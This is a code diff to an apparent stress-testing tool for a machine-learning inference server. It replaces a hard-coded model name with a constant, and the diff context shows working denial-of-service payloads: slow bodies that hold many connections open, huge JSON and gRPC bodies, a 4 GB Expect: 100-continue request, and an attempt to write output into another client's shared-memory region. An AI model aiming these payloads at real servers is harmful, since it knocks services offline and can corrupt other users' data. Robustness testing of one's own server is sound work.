@@ -111,6 +111,13 @@ func attackByName(n string) *attack {
 
 const inferPath = "/inference.GRPCInferenceService/ModelInfer"
 
+// model is the name the attacked server serves its model under (serve
+// -model tiny), and httpInfer its HTTP inference path.
+const (
+	model     = "tiny"
+	httpInfer = "/v2/models/" + model + "/infer"
+)
+
 // inferHead is the start of a ModelInferRequest for one input of shape
 // [256,3,250,250] FP32.
 func inferHead() []byte {
@@ -120,7 +127,7 @@ func inferHead() []byte {
 	shape := []byte{0x80, 0x02, 3, 0xfa, 0x01, 0xfa, 0x01} // 256, 3, 250, 250 as varints
 	in = pbField(in, 3, uint64(len(shape)), shape)
 	var m []byte
-	m = pbField(m, 1, 8, []byte("resnet18"))
+	m = pbField(m, 1, uint64(len(model)), []byte(model))
 	return pbField(m, 5, uint64(len(in)), in)
 }
 
@@ -197,7 +204,7 @@ func jsonBody(head, item, tail string) func(context.Context, *target) (int64, er
 	return func(ctx context.Context, t *target) (int64, error) {
 		n := t.scaled(40<<20, 1<<16) / (len(item) + 1)
 		body, length := repeated(head, item, tail, n)
-		status, _, sent, err := postRaw(t.http, "/v2/models/resnet18/infer", map[string]string{"Content-Type": "application/json"}, body, length)
+		status, _, sent, err := postRaw(t.http, httpInfer, map[string]string{"Content-Type": "application/json"}, body, length)
 		if err != nil {
 			return sent, err
 		}
@@ -221,7 +228,7 @@ func jsonParams(ctx context.Context, t *target) (int64, error) {
 		fmt.Fprintf(&b, `"k%d":0`, i)
 	}
 	b.WriteString(`},"inputs":[]}`)
-	status, _, sent, err := postRaw(t.http, "/v2/models/resnet18/infer", map[string]string{"Content-Type": "application/json"}, &b, int64(b.Len()))
+	status, _, sent, err := postRaw(t.http, httpInfer, map[string]string{"Content-Type": "application/json"}, &b, int64(b.Len()))
 	if err != nil {
 		return sent, err
 	}
@@ -239,7 +246,7 @@ func grpcEmptyInputs(ctx context.Context, t *target) (int64, error) {
 		return 0, err
 	}
 	defer h.close()
-	m := pbField(nil, 1, 8, []byte("resnet18"))
+	m := pbField(nil, 1, uint64(len(model)), []byte(model))
 	n := 5_000_000 // 10 MB: played at full size at every scale
 	m = append(m, bytes.Repeat([]byte{5<<3 | 2, 0}, n)...)
 	if err := h.open(1, h.grpcHeaders(inferPath), true, false); err != nil {
@@ -261,7 +268,7 @@ func longID(ctx context.Context, t *target) (int64, error) {
 	const data = 3 * 250 * 250 * 4
 	head := `{"id":"` + strings.Repeat("<", idLen) + `","inputs":[{"name":"input","datatype":"FP32","shape":[1,3,250,250],"parameters":{"binary_data_size":` + strconv.Itoa(data) + `}}]}`
 	body := io.MultiReader(strings.NewReader(head), bytes.NewReader(make([]byte, data)))
-	status, answer, sent, err := postRaw(t.http, "/v2/models/resnet18/infer", map[string]string{
+	status, answer, sent, err := postRaw(t.http, httpInfer, map[string]string{
 		"Content-Type": "application/octet-stream", "Inference-Header-Content-Length": strconv.Itoa(len(head))}, body, int64(len(head)+data))
 	if err != nil {
 		return sent, err
@@ -362,7 +369,7 @@ func idleConns(ctx context.Context, t *target) (int64, error) {
 // slowBodies: 1,100 requests whose bodies never come.
 func slowBodies(ctx context.Context, t *target) (int64, error) {
 	conns, sent, _ := holdConns(t.http, t.connCount(), func(c net.Conn) error {
-		_, err := io.WriteString(c, "POST /v2/models/resnet18/infer HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{")
+		_, err := io.WriteString(c, "POST "+httpInfer+" HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{")
 		return err
 	})
 	defer closeAll(conns)
@@ -411,7 +418,7 @@ func shmOther(ctx context.Context, t *target) (int64, error) {
 		// Use it as the output of a request, as the attacker would.
 		out := `{"inputs":[{"name":"input","datatype":"FP32","shape":[1,3,250,250],"parameters":{"binary_data_size":750000}}],"outputs":[{"name":"output","parameters":{"shared_memory_region":"victim","shared_memory_byte_size":4096}}]}`
 		b := io.MultiReader(strings.NewReader(out), bytes.NewReader(make([]byte, 750000)))
-		_, _, n, _ := postRaw(t.http, "/v2/models/resnet18/infer", map[string]string{
+		_, _, n, _ := postRaw(t.http, httpInfer, map[string]string{
 			"Content-Type": "application/octet-stream", "Inference-Header-Content-Length": strconv.Itoa(len(out))}, b, int64(len(out)+750000))
 		sent += n
 	}
@@ -462,7 +469,7 @@ func expectContinue(ctx context.Context, t *target) (int64, error) {
 		return 0, err
 	}
 	defer c.Close()
-	req := "POST /v2/models/resnet18/infer HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\nContent-Length: 4000000000\r\nExpect: 100-continue\r\n\r\n"
+	req := "POST " + httpInfer + " HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\nContent-Length: 4000000000\r\nExpect: 100-continue\r\n\r\n"
 	if _, err := io.WriteString(c, req); err != nil {
 		return 0, err
 	}
